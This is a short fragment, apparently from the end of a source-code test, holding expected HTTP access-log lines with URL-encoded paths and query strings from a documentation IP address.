             9 s: http 192.0.2.7 GET /a.css 200 90 Mozilla/5.0_(X11;_Linux_x86_64)_Gecko
             9 s: http 192.0.2.7 GET /out?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc 302 0
             9 s: http 192.0.2.7 GET /search?q=a+%26+b+(c)+50%25 200 90",
            "",
        );
    }
}
